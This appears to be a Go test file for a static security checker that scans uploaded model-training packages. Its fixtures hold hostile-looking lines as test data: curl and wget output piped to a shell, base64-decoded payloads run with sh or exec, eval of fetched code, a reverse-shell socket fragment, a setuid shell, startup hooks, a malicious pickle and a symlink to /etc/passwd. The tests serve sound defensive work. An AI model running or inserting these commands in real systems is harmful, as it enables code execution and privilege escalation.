package static

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vision-platform/trainer-agent/contract"
	"github.com/vision-platform/trainer-agent/testdata/need"
)

func checked(t *testing.T, files map[string]string) (said []string) {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	found, err := Check(dir, ".venv")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range found {
		if f.Text == "" || f.Fix == "" {
			t.Errorf("%+v", f)
		}
		said = append(said, fmt.Sprintf("%s %s:%d", f.Rule, f.File, f.Line))
	}
	slices.Sort(said)
	return said
}

func TestEveryRuleFindsItsLine(t *testing.T) {
	for want, body := range map[string]string{
		"install.index requirements.txt:2":           "numpy==1\n--extra-index-url https://x/simple\n",
		"install.index requirements-dev.txt:1":       "-i http://x\n",
		"install.source requirements.txt:1":          "git+https://x/y\n",
		"install.source  requirements.txt:1":         "a @ https://x/a.whl\n",
		"install.source   requirements.txt:2":        "# -e .\n-e .\n",
		"install.source    requirements.txt:1":       "./wheels/a-1-py3-none-any.whl\n",
		"install.build requirements.txt:1":           "a==1 --no-binary a\n",
		"install.build  requirements.txt:1":          "a==1 --hash=sha256:ab --glob -x\n",
		"install.index  requirements.txt:1":          "# hidden\r-i https://x\n",
		"install.index   requirements.txt:1":         "\ufeff-i https://x\n",
		"install.index    requirements.txt:2":        "\n\u00a0-i https://x\n",
		"install.option requirements.txt:1":          "-ihttps://x\n",
		"install.option  requirements.txt:1":         "--pypi-url https://x\n",
		"install.option   requirements.txt:1":        "--extra-i=https://x\n",
		"install.option    requirements.txt:1":       "-egit+https://x/y\n",
		"install.index     requirements.txt:1":       "--pre --extra-index-url https://x\n",
		"install.index      requirements.txt:2":      "# hidden \\\n-i https://x\n",
		"install.index       requirements.txt:3":     "a==1 \\\n# ends it\n-i https://x\n",
		"install.include requirements.txt:1":         "-r more.in\n",
		"install.include  requirements.txt:1":        "--constraint=sub/other.txt # requirements.txt\n",
		"install.encoding requirements.txt:0":        "\xff\xfe-\x00i\x00",
		"install.encoding  requirements.txt:0":       "# -*- coding: utf-7 -*-\nnumpy==1\n",
		"install.download Dockerfile:2":              "FROM x\nRUN apt-get update && \\\n    curl -sL https://x/i | bash\n",
		"install.download     Dockerfile:1":          "RUN curl https://x \\\n# more\n | bash\n",
		"install.download  Dockerfile:1":             "ADD https://x/y /y\n",
		"install.download   docker/gpu.Dockerfile:1": "RUN bash <(curl https://x)\n",
		"install.download    build.sh:1":             "wget -qO- https://x | python3 -\n",
		"install.hidden Dockerfile:1":                "RUN echo aWQ= | base64 -d | sh\n",
		"install.index Dockerfile:1":                 "RUN pip install --extra-index-url https://x numpy\n",
		"install.source Dockerfile:1":                "RUN pip install git+https://x/y\n",
		"install.rights Dockerfile:1":                "RUN chmod u+s /bin/sh\n",
		"code.hidden train.py:2":                     "import base64\nexec(base64.b64decode('aWQ='))\n",
		"code.hidden   train.py:1":                   "# hidden\rexec('\u2028', b64decode('aWQ='))\n",
		"code.hidden  train.py:1":                    "eval(urlopen('http://x').read())\n",
		"code.shell train.py:1":                      "os.dup2(s.fileno(), 0)\n",
		"install.while-running train.py:1":           "subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
		"install.startup lib/x.pth:2":                "/path\nimport os; os.system('x')\n",
		"install.startup sitecustomize.py:0":         "pass\n",
		"package.native ops.so:0":                    "\x7fELF\x02",
		"package.archive wheels/a.whl:0":             "PK",
		"pickle.code w.pkl:0":                        "cos\nsystem\n(tR.",
	} {
		rule, place, _ := strings.Cut(want, " ")
		place = strings.TrimSpace(place)
		name := place[:strings.LastIndex(place, ":")]
		if got := checked(t, map[string]string{name: body}); !slices.Contains(got, rule+" "+place) {
			t.Errorf("%q: %v, want %s %s", body, got, rule, place)
		}
	}
}

func TestWhatPackagesReallyDoIsNotRefused(t *testing.T) {
	if got := checked(t, map[string]string{
		"requirements.txt": "# torch -i x\nnumpy==2.4.6\npillow==13.0.0 ; python_version > '3.8'\n-r more/requirements.txt\nuvicorn[standard]==1\n-c constraints.txt # all -x\n--require-hashes --only-binary :all:\n# coding: utf-8\ntorch==2.0 \\\n    --hash=sha256:ab \\\n    --hash=sha256:cd\n",
		"Dockerfile":       "FROM python:3.11-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt\nRUN pip install --no-cache-dir -r requirements.txt\nRUN chmod 0755 /x && curl -fsS http://localhost || true\nCOPY . .\n",
		"train.py":         "model.eval()\nexec_time = 1\nresult = eval('1')\nlog.info('pip install nothing')\n",
		"weights.pth":      "\x00\x01import\n", ".venv/bin/python": "\x7fELF", "notes.md": "curl https://x | sh",
	}); len(got) > 0 {
		t.Errorf("%v", got)
	}
}

// A file of nothing but joined lines is read in a moment.
func TestAMillionJoinedLines(t *testing.T) {
	if got := checked(t, map[string]string{"Dockerfile": strings.Repeat("\\\n", maxText/2)}); len(got) > 0 {
		t.Errorf("%v", got)
	}
}

// The trainers of this repository are packages without a finding.
func TestOurOwnTrainersAreClean(t *testing.T) {
	for _, name := range []string{"timm", "ultralytics", "huggingface", "starter", "sdk", "vision"} {
		found, err := Check(filepath.Join(need.Repository(), "trainers", name), "__pycache__")
		if err != nil || len(found) > 0 {
			t.Errorf("%s: %v %v", name, found, err)
		}
	}
}

func TestALinkIsNotFollowed(t *testing.T) {
	dir := t.TempDir()
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "requirements.txt")); err != nil {
		t.Fatal(err)
	}
	found, err := Check(dir)
	if err != nil || len(found) != 1 || found[0].Rule != "package.link" {
		t.Errorf("%v %v", found, err)
	}
}

func FuzzRules(f *testing.F) {
	f.Add("Dockerfile", []byte("RUN curl x | sh\\\n"))
	f.Add("requirements.txt", []byte("-e .\r\n"))
	f.Add("a.py", []byte("exec(b64decode("))
	f.Fuzz(func(t *testing.T, name string, body []byte) {
		for _, found := range apply(rulesOf(name), name, body) {
			if found.Line < 1 || found.Line > 1+strings.Count(string(body), "\n") || found.Severity != contract.SeverityError && found.Severity != contract.SeverityWarning {
				t.Errorf("%+v", found)
			}
		}
	})
}
